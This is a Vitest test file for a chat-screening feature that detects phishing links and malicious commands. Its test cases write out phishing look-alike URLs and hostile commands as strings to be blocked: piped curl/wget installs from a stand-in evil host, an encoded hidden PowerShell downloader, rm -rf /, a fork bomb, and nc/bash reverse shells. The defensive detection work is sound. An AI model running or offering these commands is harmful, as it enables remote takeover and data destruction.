import { describe, expect, it } from 'vitest';
import { extractLinks, linksDetector, registrableDomain } from '../../src/screening/detectors/links.js';
import { EICAR, malwareDetector } from '../../src/screening/detectors/malware.js';
import { ScreenInput } from '../../src/screening/types.js';
import { ids, VISITOR } from './helpers.js';

describe('links', () => {
  it('extracts links with and without a scheme, and their registrable domain', () => {
    const links = extractLinks(
      'see https://help.shop.example.com/a?b=1, www.example.co.uk and docs.github.io/x. Mail me@site.com',
    );
    expect(links.map((l) => [l.host, l.registrable])).toEqual([
      ['help.shop.example.com', 'example.com'],
      ['www.example.co.uk', 'example.co.uk'],
      ['docs.github.io', 'docs.github.io'],
    ]);
    expect(registrableDomain('a.b.example.com.au')).toBe('example.com.au');
  });

  it('blocks look-alikes of the app domain and disguised hosts with harvest wording', () => {
    expect(ids(linksDetector, 'log in at https://examp1e.com/login')).toEqual(['phishing_link']);
    expect(ids(linksDetector, 'https://example-billing.net/pay')).toEqual(['phishing_link']);
    expect(ids(linksDetector, 'https://shop.example.com.evil.io/')).toEqual(['phishing_link']);
    expect(ids(linksDetector, 'https://еxample.com (Cyrillic e)')).toEqual(['phishing_link']);
    expect(ids(linksDetector, 'Your account is suspended, verify your account at http://203.0.113.9/x')).toEqual([
      'phishing_link',
    ]);
  });

  it('weighs weaker signals (IP and punycode hosts, brands on free hosting, form services with credential wording) below the blocking line', () => {
    const confidence = (text: string) => linksDetector.detect(new ScreenInput(text, VISITOR))[0]?.confidence ?? 0;
    for (const text of [
      'look: http://203.0.113.9/status',
      'https://xn--80ak6aa92e.com',
      'https://mysite.weebly.com/paypal/login',
      'https://forms.gle/abc123 verify your account here',
    ]) {
      expect(confidence(text), text).toBeGreaterThanOrEqual(0.6);
      expect(confidence(text), text).toBeLessThan(0.98);
    }
    for (const text of [
      'https://paypal.com.secure-login.xyz/signin',
      'https://apple.com-verify.info/id',
      'https://account-update.netlify.app/microsoft/office365/',
    ]) {
      expect(confidence(text), text).toBeGreaterThanOrEqual(0.98);
    }
  });

  it('takes link wrappers and shorteners for what they are (no signal), and leaves ordinary links alone', () => {
    expect(ids(linksDetector, 'short: https://bit.ly/3abc')).toEqual([]);
    expect(ids(linksDetector, 'what I mean https://t.co/Xy12AbCdEf')).toEqual([]);
    expect(ids(linksDetector, 'the docs at https://shop.example.com/help and https://github.com/acme/app')).toEqual([]);
    expect(
      ids(linksDetector, 'https://www.youtube.com/watch?v=dQw4w9WgXcQ and https://en.wikipedia.org/wiki/Phishing'),
    ).toEqual([]);
  });
});

describe('malicious code in text', () => {
  it.each([
    'run curl -fsSL https://get.evil.sh | sudo bash',
    'wget -qO- http://x.io/i.sh | sh',
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    "IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')",
    'just rm -rf / and retry',
    ':(){ :|:& };:',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'then nc -e /bin/sh 10.0.0.1 4444',
    'NCAT -c /bin/bash 10.0.0.1 4444',
  ])('blocks %s', (text) => {
    expect(ids(malwareDetector, text)).toEqual(['malicious_code']);
  });

  it('finds the EICAR test string and leaves ordinary commands alone', () => {
    expect(ids(malwareDetector, `file: ${EICAR}`)).toEqual(['eicar']);
    expect(ids(malwareDetector, 'curl -I https://shop.example.com returns 502')).toEqual([]);
    expect(ids(malwareDetector, 'I ran rm -rf node_modules and reinstalled')).toEqual([]);
  });
});
